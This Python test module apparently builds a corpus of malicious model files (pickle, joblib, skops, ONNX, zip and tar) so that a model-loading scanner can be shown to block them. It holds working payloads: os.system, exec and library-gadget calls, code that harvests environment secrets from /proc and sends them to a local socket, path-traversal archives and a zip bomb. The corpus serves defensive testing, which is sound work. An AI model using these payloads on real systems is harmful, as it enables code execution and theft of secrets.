"""Files that do harm when they are opened. Each leaves a trace, so that a test can prove that none of it ran.

Families, after the list of threats: calls at load · joblib's framing and compression · opcodes and odd names · gadgets
of the standard library and of scientific packages · what fires at predict · archives · what is cut off or blown up ·
skops · ONNX.
"""

import builtins
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import tarfile
import timeit
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import onnx
import skops.io
from onnx import TensorProto, helper
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

from tests import folders

SECRET = "MODELGATE_TEST_SECRET"


class Calls:
    """Pickles into a call of `function(*arguments)`."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def touch(canary: Path) -> Calls:
    return Calls(os.system, f"touch {canary}")


def _joblib(value: Any, **options: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(value, buffer, **options)
    return buffer.getvalue()


def called(module: str, name: str, *arguments: str) -> bytes:
    """A stream that calls `module.name` with texts; nobody has to have the module to write it."""
    packed = b"".join(b"X" + len(each.encode()).to_bytes(4, "little") + each.encode() for each in arguments)
    return b"\x80\x04c" + module.encode() + b"\n" + name.encode() + b"\n(" + packed + b"tR."


def corpus(canary: Path, port: int = 9) -> dict[str, bytes]:
    """All of them. They touch `canary`, start a process, or tell a secret to `port` when somebody loads them."""
    return {
        **_at_load(canary),
        **_in_joblib(canary),
        **_odd_streams(canary),
        **_gadgets(canary),
        **_at_predict(canary),
        **_outward(canary, port),
        **_archives(),
        **_broken(canary),
        **_skops(),
        **_onnx(),
    }


def uploads(canary: Path, port: int = 9) -> dict[str, bytes]:
    """The corpus, and what harms whoever only opens or reads it: archives, folders of MLflow, graphs."""
    packed = {**folders.hostile(), **folders.hostile_graphs()}
    return {**corpus(canary, port), **{f"packed_{kind}": data for kind, data in packed.items()}}


def _at_load(canary: Path) -> dict[str, bytes]:
    call, python = touch(canary), f"open({str(canary)!r}, 'w')"
    return {
        "system": pickle.dumps(call),
        "system_protocol_0": pickle.dumps(call, protocol=0),
        "system_protocol_2": pickle.dumps(call, protocol=2),
        "eval": pickle.dumps(Calls(eval, python)),
        "exec": pickle.dumps(Calls(exec, python)),
        "getattr": pickle.dumps(Calls(getattr, Calls(__import__, "os"), "system")),
        "builtins_open": pickle.dumps(Calls(builtins.open, str(canary), "w")),
        "nested_in_lists": pickle.dumps([[[[call]]]]),
    }


def _in_joblib(canary: Path) -> dict[str, bytes]:
    call, numbers = touch(canary), np.arange(1000.0)
    plain = pickle.dumps(call)
    return {
        "in_an_object_array": _joblib({"a": numbers, "b": np.array([call, 1], dtype=object)}),
        "after_a_raw_array": _joblib([numbers, call]),
        "joblib_zlib": _joblib([numbers, call], compress=3),
        "joblib_gzip": _joblib([numbers, call], compress=("gzip", 3)),
        "joblib_bz2": _joblib([numbers, call], compress=("bz2", 3)),
        "joblib_lzma": _joblib([numbers, call], compress=("lzma", 3)),
        "joblib_xz": _joblib([numbers, call], compress=("xz", 3)),
        "gzip": gzip.compress(plain),
        "bz2": bz2.compress(plain),
        "xz": lzma.compress(plain),
        "zlib": zlib.compress(plain),
        "joblib_load": pickle.dumps(Calls(joblib.load, "/etc/hostname")),
    }


def _odd_streams(canary: Path) -> dict[str, bytes]:
    command = f"touch {canary}".encode()
    text = b"\x8c" + bytes([len(command)]) + command
    return {
        "inst": b"(S'" + command + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + command + b"'\no.",
        "build": b"\x80\x04cos\nsystem\n" + text + b"\x85R}b.",
        "two_streams": pickle.dumps({"a": 1}) + pickle.dumps(touch(canary)),
        "dotted": b"\x80\x04\x8c\x06joblib\x8c\x10logger.os.system\x93" + text + b"\x85R.",
        "memoised_names": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94" + text + b"\x85R.",
        "ndarray_over_bytes": pickle.dumps(Calls(np.ndarray, (1,), "O", b"A" * 8)),
        "persistent_id": b"\x80\x04\x8c\x01xQ.",
        "extension": b"\x80\x04\x82\x01.",
    }


def _gadgets(canary: Path) -> dict[str, bytes]:
    python, command = f"open({str(canary)!r}, 'w')", f"touch {canary}"
    return {
        "timeit": pickle.dumps(Calls(timeit.timeit, python, "pass", timeit.default_timer, 1)),
        "profile": called("cProfile", "run", python),
        "runpy": called("runpy", "run_path", str(canary)),
        "resolve_name": called("pkgutil", "resolve_name", "os:system"),
        "locate": called("pydoc", "locate", "os.system"),
        "subprocess": called("subprocess", "getoutput", command),
        "ctypes": called("ctypes", "CDLL", "libc.so.6"),
        "attrgetter": called("operator", "attrgetter", "system"),
        "numpy_load": called("numpy", "load", "/etc/hostname"),
        "numpy_runstring": called("numpy.testing._private.utils", "runstring", python),
        "pandas_read_pickle": called("pandas.io.pickle", "read_pickle", "/etc/hostname"),
        "pandas_eval": called("pandas.core.computation.eval", "eval", python),
        "scipy_memmap": called("scipy.io._netcdf", "memmap", "/etc/hostname"),
        "sklearn_testing": called(
            "sklearn.utils._testing", "assert_run_python_script_without_output", python
        ),
    }


def _at_predict(canary: Path) -> dict[str, bytes]:
    """Nothing happens at load; the model itself is the gadget."""
    steps = {"system": FunctionTransformer(os.system), "load": FunctionTransformer(joblib.load)}
    return {
        f"predict_{name}": pickle.dumps(make_pipeline(step, LogisticRegression()))
        for name, step in steps.items()
    }


def _outward(canary: Path, port: int) -> dict[str, bytes]:
    """A process that stays, and secrets that leave: from the environment, and from everybody's."""
    send = (
        f"import socket; s = socket.create_connection(('127.0.0.1', {port}), 5); s.sendall({{}}); s.close()"
    )
    own = f"import os; {send.format(f'os.environ.get({SECRET!r}, chr(45)).encode()')}"
    everybody = (
        "import glob\nfound = b'-'\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
        f"    try: found += b''.join(p for p in open(path, 'rb').read().split(b'\\0') if b'{SECRET}' in p)\n"
        f"    except OSError: pass\n{send.format('found')}"
    )
    stay = f"import subprocess; subprocess.Popen(['sleep', '{300 + port}'], start_new_session=True)"
    return {
        "own_environment": pickle.dumps(Calls(exec, own)),
        "everybodys_environment": pickle.dumps(Calls(exec, everybody)),
        "a_process_that_stays": pickle.dumps(Calls(exec, stay)),
    }


@cache
def _archives() -> dict[str, bytes]:
    return {
        "zip_slip": _zip({"../../outside": b"x", "schema.json": b"{}"}),
        "zip_absolute": _zip({"/etc/cron.d/x": b"x", "schema.json": b"{}"}),
        "zip_link": _zip({"schema.json": b"/etc/passwd"}, mode=0o120777),
        "zip_bomb": _zip({"schema.json": bytes(32 << 20)}),
        "tar_link": _tar("MLmodel", tarfile.SYMTYPE),
        "tar_slip": _tar("../../outside", tarfile.REGTYPE),
        "tar_device": _tar("device", tarfile.CHRTYPE),
    }


def _zip(members: dict[str, bytes], mode: int = 0o100600) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            member = zipfile.ZipInfo(name)
            member.external_attr = mode << 16
            member.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(member, content)
    return out.getvalue()


def _tar(name: str, kind: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.USTAR_FORMAT) as archive:
        member = tarfile.TarInfo(name)
        member.type, member.linkname = kind, "/etc/passwd"
        archive.addfile(member)
    return out.getvalue()


def _broken(canary: Path) -> dict[str, bytes]:
    plain = pickle.dumps(touch(canary))
    flipped = bytearray(plain)
    flipped[2] ^= 1 << 4
    return {
        "truncated_after_the_call": plain[:-1],
        "truncated_in_the_middle": _joblib([np.arange(1000.0), touch(canary)])[:4000],
        "bit_flipped": bytes(flipped),
        "claims_a_terabyte": b"\x80\x05\x8e" + (1 << 40).to_bytes(8, "little") + b"x.",
        "keras": b"\x89HDF\r\n\x1a\n" + bytes(100),
    }


@cache
def _skops() -> dict[str, bytes]:
    system = skops.io.dumps(make_pipeline(FunctionTransformer(os.system), LogisticRegression()))
    return {
        "skops_function": system,
        "skops_operator": _with_loader("OperatorFuncNode"),
        "skops_method": _with_loader("MethodNode"),
        "skops_truncated": system[: len(system) // 2],
    }


def _with_loader(name: str) -> bytes:
    node = {
        "__class__": "attrgetter",
        "__module__": "operator",
        "__loader__": name,
        "attrs": {},
        "content": {},
    }
    return _zip({"schema.json": json.dumps({**node, "_skops_version": "0.16.0", "protocol": 1}).encode()})


@cache
def _onnx() -> dict[str, bytes]:
    def model(*nodes: Any, constants: Any = (), domain: str = "") -> bytes:
        graph = helper.make_graph(
            nodes,
            "g",
            [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])],
            [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 2])],
            constants,
        )
        opsets = [helper.make_opsetid(each, 17) for each in {"", domain}]
        made = helper.make_model(graph, opset_imports=opsets, ir_version=10, producer_name="onnx-test")
        packed: bytes = made.SerializeToString()
        return packed

    away = onnx.TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2])
    away.data_location = TensorProto.EXTERNAL
    away.external_data.add(key="location", value="../../../../etc/passwd")
    return {
        "onnx_external_data": model(helper.make_node("Add", ["X", "W"], ["Y"]), constants=[away]),
        "onnx_custom_operator": model(helper.make_node("Run", ["X"], ["Y"], domain="evil"), domain="evil"),
    }


#: Kinds that the model runner is not asked about, for the store never keeps them: they are no pickles.
NO_PICKLES = frozenset({"keras", *_archives(), *_skops(), *_onnx()})


def with_code(source: str, model: Any) -> bytes:
    """A model file that first executes Python: only a runner that admits `exec` loads it."""
    text = source.encode()
    prelude = b"\x80\x04cbuiltins\nexec\nX" + len(text).to_bytes(4, "little") + text + b"\x85R0"
    return prelude + pickle.dumps(model, protocol=4)[2:]


EXEC = (("builtins", "exec"),)
